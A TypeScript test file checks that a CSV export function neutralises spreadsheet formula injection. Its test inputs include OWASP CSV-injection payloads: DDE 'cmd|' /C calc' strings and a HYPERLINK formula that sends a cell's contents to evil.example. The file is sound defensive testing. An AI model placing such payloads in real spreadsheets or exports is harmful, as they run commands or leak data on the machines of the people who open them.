import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvCell, formatCsv } from "~/app/lib/csv";

describe("CSV cells a spreadsheet would run as formulas are defused", () => {
  // OWASP "CSV Injection" payloads, and names a person may really have.
  it.each([
    ["=1+1", "'=1+1"],
    ["+1+1", "'+1+1"],
    ["-1+1", "'-1+1"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", `"'\r=1+1"`],
    ["-", "'-"],
    ["--1", "'--1"],
    ["-1e3", "'-1e3"],
    ["-12.50 ", "'-12.50 "],
    ["@alice", "'@alice"],
  ])("%j is written as %j", (input, expected) => expect(csvCell(input)).toBe(expected));

  it.each([
    ["-12.50", "-12.50"],
    ["-3000.00", "-3000.00"],
    ["12.50", "12.50"],
    ["0", "0"],
    [-1250, "-1250"],
    [42, "42"],
    ["Jane Doe", "Jane Doe"],
    ["Doe, Jane", '"Doe, Jane"'],
    ['say "hi"', '"say ""hi"""'],
    ["KubeCon EU 2026", "KubeCon EU 2026"],
    [null, ""],
    [undefined, ""],
    ["", ""],
  ])("%j stays itself: %j", (input, expected) => expect(csvCell(input)).toBe(expected));

  it("whatever the text, a reader gets it back whole and no cell starts a formula unless it is a plain number", () => {
    const risky = fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", ",", '"', "'", "1", "a", " ");
    const text = fc.array(fc.oneof(risky, fc.string({ maxLength: 3 })), { maxLength: 12 }).map((parts) => parts.join(""));
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 }), (rows) => {
        const back = parse(formatCsv(rows), { relax_column_count: true }) as string[][];
        expect(back).toHaveLength(rows.length);
        back.forEach((row, i) =>
          row.forEach((cell, j) => {
            const original = rows[i]![j]!;
            if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-?\d+(\.\d+)?$/);
            expect(cell === original || cell === `'${original}`).toBe(true);
          }),
        );
      }),
    );
  });

  it("writes rows with CRLF line ends and a final CRLF", () => {
    expect(formatCsv([["a", 1], [], ["=x", null]])).toBe("a,1\r\n\r\n'=x,\r\n");
  });
});
